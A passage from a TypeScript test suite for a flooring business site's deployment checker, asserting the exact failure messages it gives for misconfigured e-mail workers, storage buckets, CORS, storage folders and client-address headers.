        "FAIL  staff e-mails of the last day sent: 2 e-mail(s) to the office failed or are being retried (latest: Invalid login: 535 Authentication failed): check the e-mail worker's SMTP settings and STAFF_INBOX; the office hears of no lead meanwhile",
        "FAIL  retention job scheduled and running: 1 run(s) of enforce_retention failed (latest: permission denied for table contacts): visitors' data is kept past its retention period; the processor's log says more",
      ]);
    } finally {
      await sql('delete from back_office.outbound_emails where id = any($1::uuid[])', [leads.map((lead) => lead.id)]);
      await sql(`delete from graphile_worker._private_jobs where key = 'check-deployment-test'`);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('fails when a second e-mail worker instance runs with other settings than the one the check tried', async () => {
    // A second host given staging's SITE_URL and sender: whichever instance takes the check's job, the other differs.
    const settings = { ...process.env, ...site.stack.emailWorkerEnv, SITE_URL: 'https://staging.floors.example', MAIL_FROM: 'Staging <staging@floors.example>' };
    const worker = spawn(process.execPath, ['--import', 'tsx', EMAIL_WORKER_ENTRY], { env: settings, stdio: ['ignore', 'pipe', 'pipe'] });
    const output: string[] = [];
    worker.stdout!.on('data', (chunk: Buffer) => output.push(chunk.toString()));
    worker.stderr!.on('data', (chunk: Buffer) => output.push(chunk.toString()));
    try {
      await eventually('the second e-mail worker to run', async () => (output.join('').includes('email worker running') ? true : undefined));
      // Its first heartbeat (every 5 s) carries its settings.
      await eventually('its heartbeat', async () =>
        (await sql(`select 1 from back_office.worker_heartbeats where service = 'email-worker' and settings is not null`)).length === 2 ? true : undefined,
      );
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toContain(
        "FAIL  every e-mail worker instance runs with the settings checked: 2 instances are alive and their MAIL_FROM, SITE_URL differ: the lines above checked only the one that took the job, and the others' e-mails go out otherwise; give every instance the same settings (a redeploy under way? run the check again once it is over)",
      );
    } finally {
      // Stopped as a host stops it: its heartbeat goes with it, so the next check sees one instance again.
      const exited = new Promise((resolve) => worker.once('exit', resolve));
      worker.kill('SIGTERM');
      await exited;
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('names a bucket whose public flag is not the migrations\' one', async () => {
    // What `update storage.buckets set public = true where id = 'floor-visualizer'` does on hosted Supabase: the local
    // gateway answers for its buckets from this list, read at each request.
    const images = LOCAL_BUCKETS.find((bucket) => bucket.id === 'floor-visualizer')!;
    images.public = true;
    try {
      const { code, failed, lines } = await checkDeployment(envFor(site.stack));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        'FAIL  bucket floor-visualizer: exists but is public; it must be private',
        // And what that means, tried: the test photo opens at its public address.
        expect.stringMatching(/^FAIL {2}public key cannot open the stored photos: floor-visualizer\/.+\/original\.jpg opens at its public address without any key: the bucket is public$/),
      ]);
    } finally {
      images.public = false;
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('names a bucket added later, public or private, which the bucket lines asked by name never saw (session 30)', async () => {
    // What the dashboard's "New bucket" does on hosted Supabase: the local gateway lists its buckets from this list.
    LOCAL_BUCKETS.push({ id: 'exports', public: true }, { id: 'staff-notes', public: false });
    try {
      const { failed, lines } = await checkDeployment(envFor(site.stack));

      expect(failed, lines.join('\n')).toEqual([
        "FAIL  project has no storage bucket but the photo buckets: Storage also has exports (public), staff-notes (private), which no migration makes: every file in exports opens at its public address without any key; the retention job, forgetting and a visitor's data export know only floor-visualizer and floor-visualizer-uploads, so nothing in them is ever deleted or exported; move what they hold and delete them, or make them with a migration and add them to what those walk",
      ]);
    } finally {
      LOCAL_BUCKETS.splice(LOCAL_BUCKETS.findIndex((bucket) => bucket.id === 'exports'), 2);
    }
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  describe('a processor that allows any origin and cannot store, and no e-mail worker', () => {
    let broken: Stack;
    let processor: ChildProcess;
    let processorUrl: string;
    const processorOutput: string[] = [];
    let folder: string;

    beforeAll(async () => {
      broken = await startThrowawayStack({ withProcessor: false, withEmailWorker: false, throttleMaxWrites: 1000 });
      const port = await findFreePort();
      processorUrl = `http://127.0.0.1:${port}`;
      folder = fs.mkdtempSync(path.join(os.tmpdir(), 'flooring-site-broken-'));
      // A file where its storage folder should be: as unwritable for root as a read-only disk is for the image's user.
      fs.writeFileSync(path.join(folder, 'not-a-folder'), '');
      processor = spawn(process.execPath, ['--import', 'tsx', PROCESSOR_ENTRY], {
        env: {
          ...process.env,
          ...broken.env(),
          HOST: '127.0.0.1',
          PORT: String(port),
          VISUALIZER_STORAGE: 'local',
          VISUALIZER_STORAGE_DIR: path.join(folder, 'not-a-folder', 'storage'),
          VISUALIZER_UPLOAD_DIR: path.join(folder, 'not-a-folder', 'uploads'),
          ALLOWED_ORIGINS: '*',
        },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      processor.stdout!.on('data', (chunk: Buffer) => processorOutput.push(chunk.toString()));
      processor.stderr!.on('data', (chunk: Buffer) => processorOutput.push(chunk.toString()));
      await eventually('the broken processor to listen', async () => ((await fetch(`${processorUrl}/health`).catch(() => undefined))?.ok ? true : undefined));
    }, 600_000);
    afterAll(async () => {
      processor?.kill('SIGKILL');
      await broken?.stop();
      if (folder) fs.rmSync(folder, { recursive: true, force: true });
    });

    it('fails on CORS, on the missing e-mail worker, on /healthz and on the test photo, each with its own line', async () => {
      const { code, failed, lines } = await checkDeployment(envFor(broken, processorUrl));

      expect(code).toBe(1);
      expect(failed, lines.join('\n')).toEqual([
        // True as well: the site under test was built for the other stack.
        expect.stringMatching(/^FAIL {2}site built for this deployment: its \d+ scripts do not use SUPABASE_URL \(they hold http:\/\/127\.0\.0\.1:\d+\), VITE_VISUALIZER_WEBHOOK_URL \(they hold http:\/\/127\.0\.0\.1:\d+\/functions\/v1\/floor-visualizer\) as set here/),
        `FAIL  webhook CORS for the site: allows *, not ${new URL(site.siteUrl).origin}: set the processor's ALLOWED_ORIGINS to ${new URL(site.siteUrl).origin}`,
        `FAIL  webhook CORS refuses other origins: a preflight from https://deployment-check.invalid is allowed (*): any web page could post photos; set ALLOWED_ORIGINS to ${new URL(site.siteUrl).origin}`,
        // A POST's answer, as a preflight's, lets any page read it (session 27).
        `FAIL  webhook refuses a plain-text post from another site: a POST of text/plain from https://deployment-check.invalid was refused (415), but its answer lets that page read it (access-control-allow-origin: *): any site's page may read what the processor answers its visitors; set ALLOWED_ORIGINS to ${new URL(site.siteUrl).origin}`,
        expect.stringMatching(/^FAIL {2}webhook \/healthz: status 503: .*"storage":"not writable".*VISUALIZER_STORAGE_DIR is not writable \(ENOTDIR\)/),
        "FAIL  e-mail worker alive: no e-mail worker has said it is alive in the last 30 s (back_office.worker_heartbeats): leads' e-mails stay queued and nobody is told",
        "FAIL  e-mails' unsubscribe link works: no e-mail worker made the link within 30 s: none is running, or it is from before this check (rebuild and redeploy it: npm run build:services)",
        "FAIL  e-mails show the business's own facts, link to the site and reach its inbox: no e-mail of the worker's to read (see the line above)",
        'FAIL  every e-mail worker instance runs with the settings checked: no e-mail worker is alive to compare (see the e-mail worker line above)',
        // Reached with no proxy in front, it takes the address a caller writes in cf-connecting-ip, its default (session 27).
        "FAIL  processor counts each visitor by the address they send from: it counted the check's call as 203.0.113.101, the address the check wrote in its cf-connecting-ip header: the processor believes an address a visitor writes, so one script can take fresh upload slots under made-up addresses and spend any visitor's write allowance; set the processor's VISUALIZER_CLIENT_ADDRESS_HEADER to the header the proxy in front of it sets itself (Cloudflare's cf-connecting-ip), or to nothing when no proxy is in front (decision 005)",
        expect.stringMatching(/^FAIL {2}test photo stored and rendered: the processor could not take the test photo: 500 /),
        'FAIL  public key cannot open the stored photos: no stored test photo to look for (see the line above), so storage is unchecked',
      ]);
      expect(await leftovers(broken)).toEqual([]);
    }, 300_000);

    it("fails on an e-mail worker whose UNSUBSCRIBE_URL is another deployment's processor, run without the owner's business settings, with a developer's SITE_URL, the placeholder STAFF_INBOX and a sender at the placeholder's domain", async () => {
      // A careless copy of another deployment's settings (staging's): the worker runs, the processor's own route works,
      // and only the link in the e-mails is wrong. And none of the owner's VITE_BUSINESS_* settings on its host, and the
      // sender made from the placeholders (the worker records only its digest; mail from it is refused or spam).
      const elsewhere = `${site.stack.url}/functions/v1/floor-visualizer/unsubscribe`;
      const settings = Object.fromEntries(
        Object.entries({ ...process.env, ...broken.emailWorkerEnv, UNSUBSCRIBE_URL: elsewhere, STAFF_INBOX: 'hello@example.com', SITE_URL: 'http://localhost:5173', MAIL_FROM: 'Your Flooring Co. <hello@example.com>' }).filter(([name]) => !name.startsWith('VITE_BUSINESS_')),
      );
      const worker = spawn(process.execPath, ['--import', 'tsx', EMAIL_WORKER_ENTRY], { env: settings, stdio: ['ignore', 'pipe', 'pipe'] });
      const output: string[] = [];
      worker.stdout!.on('data', (chunk: Buffer) => output.push(chunk.toString()));
      worker.stderr!.on('data', (chunk: Buffer) => output.push(chunk.toString()));
      try {
        await eventually('the e-mail worker to run', async () => (output.join('').includes('email worker running') ? true : undefined));
        const { failed, lines } = await checkDeployment(envFor(broken, processorUrl));

        expect(failed.find((line) => line.startsWith("FAIL  e-mails' unsubscribe link works")), lines.join('\n')).toBe(
          `FAIL  e-mails' unsubscribe link works: the e-mails' link ${elsewhere} answers a click with 400 (This unsubscribe link does not work): the processor there does not take this deployment's signature (another deployment's processor?); is the e-mail worker's UNSUBSCRIBE_URL (${elsewhere}) this deployment's processor /unsubscribe?`,
        );
        expect(failed.find((line) => line.startsWith("FAIL  e-mails show the business's own facts")), lines.join('\n')).toMatch(
          /^FAIL {2}e-mails show the business's own facts, link to the site and reach its inbox: its e-mails show the placeholder .*VITE_BUSINESS_PHONE \(856\) 555-0100.*VITE_BUSINESS_NJ_HIC_REGISTRATION 13VH00000000.*: the e-mail worker runs without the owner's VITE_BUSINESS_\* settings .*; its e-mails link to http:\/\/localhost:5173 \(SITE_URL\), and http:\/\/localhost:5173\/realtors (does not open \(.*\)|is not on 127\.0\.0\.1): visitors' "See your result" and the e-mails' buttons lead nowhere they should; set the e-mail worker's SITE_URL to http:\/\/127\.0\.0\.1:\d+; its STAFF_INBOX is hello@example\.com, an address nobody reads: the office would hear of no lead; set it to the business's inbox; its MAIL_FROM is [^;]*<hello@example\.com>, at a domain nobody can send from \(no SPF or DKIM can exist for it\): providers refuse its e-mails or file them as spam; set it to an address on the business's verified domain \(README, "E-mail"\)$/,
        );
        // The worker itself is alive and well: only its settings are wrong.
        expect(lines.some((line) => line.startsWith('ok    e-mail worker alive')), lines.join('\n')).toBe(true);
      } finally {
        worker.kill('SIGKILL');
      }
      expect(await leftovers(broken)).toEqual([]);
    }, 300_000);

    it("fails on an e-mail worker whose SMTP server does not answer (a wrong host or port), on a day without a lead to show it", async () => {
      // The owner's settings, but SMTP at a port nothing listens on: the worker runs and takes jobs, every e-mail fails.
      const closedPort = await findFreePort();
      const worker = spawn(process.execPath, ['--import', 'tsx', EMAIL_WORKER_ENTRY], {
        env: { ...process.env, ...broken.emailWorkerEnv, ...OWNER_SETTINGS, SMTP_HOST: '127.0.0.1', SMTP_PORT: String(closedPort) },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      const output: string[] = [];
      worker.stdout!.on('data', (chunk: Buffer) => output.push(chunk.toString()));
      worker.stderr!.on('data', (chunk: Buffer) => output.push(chunk.toString()));
      try {
        await eventually('the e-mail worker to run', async () => (output.join('').includes('email worker running') ? true : undefined));
        const { failed, lines } = await checkDeployment(envFor(broken, processorUrl));

        expect(failed.find((line) => line.startsWith("FAIL  e-mails show the business's own facts")), lines.join('\n')).toMatch(
          /its SMTP server does not take it \(.*ECONNREFUSED.*\): every e-mail fails, the office's and the visitors'; check SMTP_HOST, SMTP_PORT, SMTP_USER and SMTP_PASSWORD/,
        );
        // No e-mail to the office failed in the last day: that line alone passed such a worker.
        expect(lines).toContain('ok    staff e-mails of the last day sent: none failed or is being retried');
      } finally {
        worker.kill('SIGKILL');
      }
      expect(await leftovers(broken)).toEqual([]);
    }, 300_000);

    it("fails on an e-mail worker whose host kept the owner's older phone, and a name with a promise in it (session 35): its e-mails give another number than the site, and a claim no line read", async () => {
      // The owner's own settings, not the placeholders: only the phone is older than the one the site was built with.
      const worker = spawn(process.execPath, ['--import', 'tsx', EMAIL_WORKER_ENTRY], {
        // And a name with a tagline the site does not show (session 35): a promise in every e-mail, seen by no line.
        env: { ...process.env, ...broken.emailWorkerEnv, ...OWNER_SETTINGS, VITE_BUSINESS_PHONE: '(856) 555-0199', VITE_BUSINESS_NAME: 'Haddon Floorworks, lifetime warranty' },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      const output: string[] = [];
      worker.stdout!.on('data', (chunk: Buffer) => output.push(chunk.toString()));
      worker.stderr!.on('data', (chunk: Buffer) => output.push(chunk.toString()));
      try {
        await eventually('the e-mail worker to run', async () => (output.join('').includes('email worker running') ? true : undefined));
        const { failed, lines } = await checkDeployment(envFor(broken, processorUrl));

        const emailLine = failed.find((line) => line.startsWith("FAIL  e-mails show the business's own facts"));
        expect(emailLine, lines.join('\n')).toContain(
          "its e-mails do not give the phone 8565550142, as the site's pages do: the e-mail worker runs with other VITE_BUSINESS_* settings than the site was built with; give its host the site's",
        );
        // Its footer and unsubscribe text (and its header, in capitals).
        expect(emailLine).toMatch(/its e-mail shows \d claims only the owner can back that src\/config\/owner-claims\.ts does not confirm: .*"warranty" in "[^"]*Haddon Floorworks, lifetime warranty[^"]*", which no claim of the list has/);
      } finally {
        worker.kill('SIGKILL');
      }
      expect(await leftovers(broken)).toEqual([]);
    }, 300_000);
  });
});
